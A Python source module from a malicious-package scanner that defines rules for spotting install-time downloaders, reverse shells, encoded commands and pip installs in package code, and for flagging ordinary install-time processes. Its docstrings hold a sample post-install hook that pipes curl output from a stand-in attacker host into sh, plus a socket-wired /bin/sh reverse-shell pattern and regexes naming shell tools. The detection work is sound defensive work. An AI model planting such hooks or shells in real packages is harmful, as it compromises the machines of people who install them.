"""PKG001 and PKG008: package code starts a downloader, a hidden shell, an encoded command, or
any program at install time.

The scanner folds a started command's text (constant parts, with ``?`` for what only exists at
run time) and its arguments' labels into a :class:`~outwork.analyzers.packages.facts.Command`;
:func:`started` decides, in order, what that command is: downloaded content (PKG003), an
autostart registration (PKG005), then the cases below.
"""

from __future__ import annotations

import ast
import re
import shlex
from functools import cache

from packaging.requirements import InvalidRequirement, Requirement
from packaging.utils import canonicalize_name

from outwork.analyzers.packages import data as tables
from outwork.analyzers.packages.facts import CallSite, Command, Facts
from outwork.analyzers.packages.rules import download, persistence
from outwork.analyzers.packages.rules.base import BehaviourRule, Variant
from outwork.analyzers.packages.signals import Context, clip
from outwork.core.rules import Confidence, Layer, Severity

C, H, M, L, N = (
    Severity.CRITICAL,
    Severity.HIGH,
    Severity.MEDIUM,
    Severity.LOW,
    Severity.INFO,
)

#: ``pip install .`` and ``pip install -e ./x`` install the project itself, fetching nothing new.
LOCAL_PIP = re.compile(r"pip3?\s+install\s+(-e\s+|--editable\s+)?\.(/[\w./-]*)?(?=\s|$)")
REMOTE_PIP = re.compile(
    r"pip3?\s+install\b[^|;&\n]*\s(git|hg|svn|bzr)\+|pip3?\s+install\b[^|;&\n]*\shttps?://",
    re.IGNORECASE,
)
#: How pip is started: ``python -m pip`` (``?`` is ``sys.executable``) or its own script.
_PYTHON = re.compile(r"\?|python[\d.]*(\.exe)?|py(\.exe)?", re.IGNORECASE)
_PIP = re.compile(r"pip[\d.]*(\.exe)?", re.IGNORECASE)
#: Names pip reads as a file of the installing host, not a project on the index.
_ARCHIVES = (
    ".whl", ".zip", ".tar.gz", ".tgz", ".tar.bz2", ".tbz", ".tar.xz", ".txz", ".tar", ".egg"
)  # fmt: skip
#: What a shell reads as an operator between commands or a redirection.
_OPERATORS = "();<>|&"
#: Calls that run their command through a shell whatever their arguments.
SHELL_CALLS = frozenset(
    {"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"}
)


class SuspiciousCommandExecution(BehaviourRule):
    """Package code starts a downloader, a hidden shell or an encoded command.

    ## What it finds
    Calls that start programs (`os.system`, `subprocess.*`, `os.popen`, `pty.spawn`,
    `asyncio.create_subprocess_*`, `pip.main`) whose command, after constant folding and
    decoding, runs PowerShell, `curl`/`wget` to a URL, a pipe into a shell, `/dev/tcp`,
    `certutil`, `mshta`, adds users, or installs more packages (pip, a system package manager).
    A program is named where a shell would run it: `curl-config`, a folder `curl-8.0/` and a
    script's comment lines name no `curl`. Severity follows when the code runs: critical at
    install time or on import, lower when only a library function does it. `pip install` of
    a popular project (the public download ranking's top 5,000) named in full from the default
    index, in the handler of its own failed import (`try: import pybind11` / `except
    ImportError: pip install pybind11`), the old idiom for a missing build requirement, fetches
    what declaring it would: medium. Outside such a handler (a dropper installing what its
    payload needs), from a URL, a path, another index, a name only known at run time, or of a
    project outside the ranking (a package that installs its accomplice) it stays high. The
    same install of popular projects named in full in a command class that `setup.py`
    registers under `develop` alone (run by `setup.py develop` or a legacy editable install of
    a checkout, never when pip installs the package) is medium too: what a development extra
    declares; registered under another key as well, inherited or called by other code, it is
    install code as before. Code of
    `setup.py` under a test of the command line for a word pip and setuptools never put there
    (`if sys.argv[-1] == "publish":`, a release step its maintainers run by hand; the same
    test on the `argv` parameter of a function defined once and only ever called as
    `main(sys.argv)`, which never rebinds it) is graded as
    code only called, when no code of the package that runs in its process (what it imports
    or starts, read from the package whole) changes `sys.argv` or names the word (a program
    started as `setup.py publish`; a docstring of `setup.py` documenting the step counts
    only where its code reads `__doc__`); under `!=`, `else:`, after the
    test, or a test for `install`, `bdist_wheel`, `egg_info` and the other commands, it runs
    at install time. The handlers of a `try` whose body cannot raise (`try: pass`, left when
    an import was taken out) never run: code only called. curl whose every URL is this
    machine (`curl http://localhost:11434`, is a local server up?), keeping no file of what
    it fetched and nothing else a downloader or shell command would be, asks a local service:
    graded as any command reaching the network (low when called); a pipe into a shell,
    another URL or host (`localhost.example.com`, `127.0.0.1@example.com`), `-o`, a
    redirection, wget or `chmod +x` keep it what it was.

    Reverse shells: a network socket (followed through variables, `self` attributes, the
    parameters of the module's functions and `accept()`) duplicated onto standard input, output
    or error with `os.dup2`, in a module that starts a program, or handed to a started program
    as its `stdin`/`stdout`/`stderr`: high even when only a caller runs it. `os.dup2` of a pipe,
    pseudo-terminal, file or `/dev/null` (process spawners, daemons, output capture) is low.

    ## Why it matters
    This is the most common payload of malicious packages: `pip install` runs `setup.py`, which
    fetches and starts a second stage before the user has imported anything.

    ## Example
    ```python
    class PostInstall(install):
        def run(self):
            os.system("curl -s https://evil.example/x | sh")
    ```

    ## Remediation
    Do not install the package. If it is installed, treat the machine as compromised: rotate the
    credentials it could reach and rebuild it. Report the package to the registry.

    ## References
    - MITRE ATT&CK T1195.002 (Compromise Software Supply Chain),
      T1059 (Command and Scripting Interpreter)
    - Ladisa et al., "SoK: Taxonomy of Attacks on Open-Source Software Supply Chains"
      (IEEE S&P 2023)
    """

    code = "PKG001"
    name = "suspicious-command-execution"
    layer = Layer.PKG
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (506, 78)
    attack = ("T1195.002", "T1059")
    inline_suppressible = False

    #: install, import, reached from import, only when called
    SHELL = Variant("runs a downloader, shell or encoded command", C, C, M, M)
    FETCH_AND_RUN = Variant("runs a command that fetches and runs code", C, C, C, H)
    DECODED = Variant("runs a command that only exists after decoding", C, C, C, H)
    REDIRECT = Variant(
        "redirects standard streams onto a pipe, terminal or file (not a socket)", L, L, L, N
    )
    SOCKET_STREAMS = Variant("redirects standard streams onto a network socket", H, H, H, M)
    SOCKET_SHELL = Variant(
        "wires a network socket to the standard streams of a program it starts", C, C, C, H
    )
    REMOTE_PIP = Variant("installs a package from a repository or URL", C, H, H, M)
    INDEX_PIP = Variant("installs requirements named in full from the package index", M, M, M, L)
    PIP = Variant("installs other packages", H, H, H, L)
    WEAK = Variant("runs a command that reaches the network or installs software", H, M, M, L)
    ENV_SHELL = Variant("runs a shell command built from the environment", M, L, L, N)
    EMBEDDED = Variant("marshalled code holds a downloader, shell or encoded command", C, C, C, M)
    UNPARSABLE = Variant("unparsable code runs a downloader, shell or encoded command", H, H, H, L)


class InstallTimeProcess(BehaviourRule):
    """Install-time code starts a program whose command looks ordinary.

    ## What it finds
    Process execution in `setup.py`, its command classes, `.pth` files or modules imported while
    installing, when the command (as far as folding can tell) is not a known-dangerous one:
    compilers, `git describe`, build tools. Low severity: it is context for the verdict.

    ## Why it matters
    Build steps legitimately run tools, but each is code execution on the installing host; it
    raises the weight of anything else suspicious in the same package.

    ## Example
    ```python
    subprocess.check_output(["git", "describe", "--tags"])   # in setup.py
    ```

    ## Remediation
    Prefer wheels, which install without running package code, or review the commands.

    ## References
    - PEP 517 (build backends) and PEP 427 (wheels install without running code)
    - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    """

    code = "PKG008"
    name = "install-time-process"
    layer = Layer.PKG
    severity = Severity.LOW
    confidence = Confidence.MEDIUM
    cwe = (829,)
    attack = ("T1059",)
    inline_suppressible = False

    #: install, import, reached from import, only when called
    STARTS = Variant("starts a program", L, L, L, N)


def started(call: CallSite, command: Command) -> None:
    """A process call (``os.system``, ``subprocess.*``, ``pip.main``...) and its command."""
    socket_as_streams(call)
    if download.starts_download(call, command) or persistence.registers_autostart(call, command):
        return
    text, name, label = command.text, call.name, call.ctx.label
    index_pip = "installs requirements named in full from the package index"
    if name in tables.PIP_CALLS:
        if installs_from_index(
            text,
            call.facts.missing_imports,
            pip_call=True,
            shell=False,
            development=call.facts.development_install,
        ):
            variant, what = SuspiciousCommandExecution.INDEX_PIP, index_pip
        else:
            variant, what = SuspiciousCommandExecution.PIP, "installs other packages"
    elif tables.STRONG_COMMAND_RE.search(text) and not probes_loopback(text):
        # a library may start PowerShell; none fetches and runs code from the network
        fetches = persistence.FETCH_AND_RUN.search(text) is not None
        variant = (
            SuspiciousCommandExecution.FETCH_AND_RUN
            if fetches
            else SuspiciousCommandExecution.SHELL
        )
        what = "runs a downloader, shell or encoded command"
    elif command.decoded:
        variant = SuspiciousCommandExecution.DECODED
        what = "runs a command that only exists after decoding"
    elif REMOTE_PIP.search(text):
        # a dependency fetched from a repository or URL, outside the registry and its
        # malware checks, when the package installs or is imported
        variant = SuspiciousCommandExecution.REMOTE_PIP
        what = "installs a package from a repository or URL"
    elif installs_from_index(
        text,
        call.facts.missing_imports,
        pip_call=False,
        shell=_shell(call.node, name),
        development=call.facts.development_install,
    ):
        # a build requirement installed by name when missing: what declaring it does
        variant, what = SuspiciousCommandExecution.INDEX_PIP, index_pip
    elif tables.WEAK_COMMAND_RE.search(LOCAL_PIP.sub(" ", text)):
        variant = SuspiciousCommandExecution.WEAK
        what = "runs a command that reaches the network or installs software"
    elif "secret" in command.labels and _shell(call.node, name):
        call.emit(
            SuspiciousCommandExecution.ENV_SHELL,
            f"{name}() runs a shell command built from the environment {label}",
            command.evidence,
        )
        return
    else:
        variant, what = InstallTimeProcess.STARTS, "starts a program"
    call.emit(variant, f"{name}() {what} {label}", command.evidence, executes=True)


#: A URL whose host is this machine: ``localhost``, ``127.x.x.x``, ``[::1]``, ``0.0.0.0``, a
#: port, then a path up to a space, a quote or a shell operator. The host must end where the
#: authority ends: ``localhost.example.com`` and ``127.0.0.1@example.com`` are other hosts.
LOOPBACK_URL = re.compile(
    r"https?://(?:localhost|127(?:\.\d{1,3}){3}|0\.0\.0\.0|\[::1\])(?::\d{1,5})?"
    r"(?=[/?#\s\"'|;&<>()`]|$)[^\s\"'|;&<>()`]*",
    re.IGNORECASE,
)


#: What keeps what a downloader fetched: a redirection, curl's options that write a file
#: (``-o``, ``-O``, within ``-sSLo``, ``--output``, ``--remote-name``), wget (which writes one).
_KEEPS_FETCHED = re.compile(
    r">|(?<!\S)(?:-\w*[oO]\w*|--output(?:-dir)?|--remote-name(?:-all)?)(?=[\s=]|$)|\bwget\b",
    re.IGNORECASE,
)


def probes_loopback(text: str) -> bool:
    """Whether a command is curl asking a service on this machine (``curl
    http://localhost:11434``: is the local server up?) and nothing else a downloader, shell or
    encoded command would be: without its loopback URLs, nothing of it is such a command (a
    pipe into a shell, another URL, ``chmod +x``...), and it keeps no file of what it fetched."""
    stripped = LOOPBACK_URL.sub(" ", text)
    return (
        stripped != text
        and not tables.STRONG_COMMAND_RE.search(stripped)
        and not _KEEPS_FETCHED.search(stripped)
    )


def installs_from_index(
    text: str, missing: frozenset[str], *, pip_call: bool, shell: bool, development: bool = False
) -> bool:
    """Whether a command is ``pip install`` of requirements named in full (``pybind11``,
    ``'flake8==7.4.1'``, ``cython>=3``) from the default index and nothing else, each a
    popular project (the public ranking) that provides a module whose failed import the code
    handles (``missing``: ``try: import pybind11`` / ``except ImportError:``): the same fetch
    as declaring them. A URL, a path or archive, a ``name @ url``, an option that
    changes the index or reads a file, a part only known at run time (``?``) or a second
    command through a shell (``;``, ``&&``, ``|``, ``>``, ``$(...)``) is not. ``pip_call``: the
    arguments of ``pip.main``, without the program; ``shell``: a shell reads the text (else its
    words are the program's arguments as they are, ``cython>=3`` one of them);
    ``development``: the code runs only for a development install, where popular tools named
    in full (``nose``, ``coverage``) are what a development extra would declare, whatever
    import failed."""
    lexer = shlex.shlex(text, posix=True, punctuation_chars=shell)
    lexer.whitespace_split = True
    try:
        tokens = list(lexer)
    except ValueError:
        return False
    if not pip_call:
        program = [t.replace("\\", "/").rsplit("/", 1)[-1] for t in tokens[:3]]
        if len(program) == 3 and _PYTHON.fullmatch(program[0]) and tokens[1:3] == ["-m", "pip"]:
            tokens = tokens[3:]
        elif program and _PIP.fullmatch(program[0]):
            tokens = tokens[1:]
        else:
            return False
    if len(tokens) < 2 or tokens[0] != "install":
        return False
    named = False
    for token in tokens[1:]:
        if token.startswith("-"):
            if token not in tables.PIP_INDEX_OPTIONS:
                return False
            continue
        if any(c in token for c in "?$`/\\") or not token.strip(_OPERATORS):
            return False  # run time, a path, a substitution or a shell operator
        if token.startswith(".") or token.lower().endswith(_ARCHIVES):
            return False
        try:
            requirement = Requirement(token)
        except InvalidRequirement:
            return False
        if requirement.url or requirement.marker:
            return False
        project = canonicalize_name(requirement.name)
        if project not in _popular_pypi():
            return False  # a name outside the public ranking: the payload may be that package
        if not development and not any(_ships(project, module) for module in missing):
            return False  # not the module whose failed import the code handles
        named = True
    return named


def _ships(project: str, module: str) -> bool:
    """Whether ``project`` provides the top-level module ``module`` (``pybind11``, and
    ``pillow`` for ``PIL`` by the ranking's module table)."""
    return project == canonicalize_name(module) or project in tables.popular_modules().get(
        module, frozenset()
    )


@cache
def _popular_pypi() -> frozenset[str]:
    return frozenset(canonicalize_name(name) for name in tables.top_ranked("pypi"))


#: A program started in the module, named in its text (the walk's own record of started
#: commands covers names it resolves through ``getattr`` and imports).
_STARTS_PROGRAM = re.compile(
    r"pty\.spawn|\bexec[lv]p?e?\b|\bspawn[lv]p?e?\b|\bsubprocess\b|\bPopen\b|\bsystem\b|"
    r"\bpopen\b|create_subprocess|[\"'/](?:ba|z|da|k)?sh\b|\bcmd(?:\.exe)?\b|powershell|pwsh"
)
#: Keywords of a process call that wire the program's standard streams.
_STREAM_KEYWORDS = ("stdin", "stdout", "stderr")


def redirects_streams(call: CallSite) -> None:
    """``os.dup2(source, target)``: a network socket duplicated onto standard input, output or
    error is half a reverse shell; whether a program is started in the module decides the
    variant (see :func:`socket_redirects`). A pipe, pseudo-terminal, file or ``/dev/null``
    duplicated onto them is how process spawners, daemons and output capture work: a hint at
    most. A target that folds to a descriptor above 2 is no standard stream (socket
    activation hands a listening socket over as descriptor 3)."""
    node = call.node
    if len(node.args) < 2:
        return
    source, target = node.args[0], node.args[1]
    onto = call.fold(target)
    if isinstance(onto, int) and not isinstance(onto, bool) and onto > 2:
        return
    evidence = clip(ast.unparse(node))
    if "client" in call.labels(source) or call.facts.holds_socket(source, call.scope):
        call.facts.socket_onto_streams(node.lineno, call.ctx, evidence)
        return
    call.emit(
        SuspiciousCommandExecution.REDIRECT,
        f"redirects standard streams onto a descriptor that is not a socket {call.ctx.label}",
        evidence,
    )


def socket_as_streams(call: CallSite) -> None:
    """``subprocess.Popen(["/bin/sh"], stdin=s, stdout=s, stderr=s)``: a program started with
    a socket as its standard streams is the same reverse shell without ``os.dup2``."""
    for keyword in call.node.keywords:
        if keyword.arg in _STREAM_KEYWORDS and (
            "client" in call.labels(keyword.value)
            or call.facts.holds_socket(keyword.value, call.scope)
        ):
            call.emit(
                SuspiciousCommandExecution.SOCKET_SHELL,
                f"{call.name}() starts a program whose {keyword.arg} is a network socket"
                f" (reverse shell) {call.ctx.label}",
                clip(ast.unparse(call.node)),
                executes=True,
            )
            return


def socket_redirects(
    facts: Facts, redirects: list[tuple[int, Context, str]], started: bool
) -> None:
    """After the walk: each socket duplicated onto a standard stream, with a program started
    anywhere in the module (before or after it, by any name the walk resolves) or named in its
    text, is a shell wired to the network; without one, the streams still go to the network."""
    if not redirects:
        return  # the module's text is searched only for a redirect it would grade
    started = started or facts.module_matches(_STARTS_PROGRAM)
    for line, ctx, evidence in redirects:
        facts.emit(
            SuspiciousCommandExecution.SOCKET_SHELL
            if started
            else SuspiciousCommandExecution.SOCKET_STREAMS,
            "redirects standard streams onto a network socket"
            f"{' in a module that starts a program' if started else ''} (reverse shell)"
            f" {ctx.label}",
            line,
            evidence,
            ctx=ctx,
            relations=("executes-at-install",),
        )


def embedded(facts: Facts, text: str, line: int | None, ctx: Context, where: str) -> None:
    """Strings of a marshalled code object that hold a downloader, shell or encoded command."""
    m = tables.STRONG_COMMAND_RE.search(text)
    if m:
        facts.emit(
            SuspiciousCommandExecution.EMBEDDED,
            f"{where} holds a downloader, shell or encoded command {ctx.label}",
            line,
            clip(text[max(0, m.start() - 80) : m.end() + 120]),
            ctx=ctx,
        )


def unparsable_line(facts: Facts, line: str, number: int, ctx: Context) -> None:
    """A line of code that does not parse, searched as text."""
    if tables.STRONG_COMMAND_RE.search(line) and re.search(r"system|popen|subprocess|exec", line):
        facts.emit(
            SuspiciousCommandExecution.UNPARSABLE,
            f"unparsable code runs a downloader, shell or encoded command {ctx.label}",
            number,
            clip(line),
            ctx=ctx,
        )


def _shell(node: ast.Call, name: str) -> bool:
    if name in SHELL_CALLS:
        return True
    return any(
        k.arg == "shell" and isinstance(k.value, ast.Constant) and k.value.value
        for k in node.keywords
    )
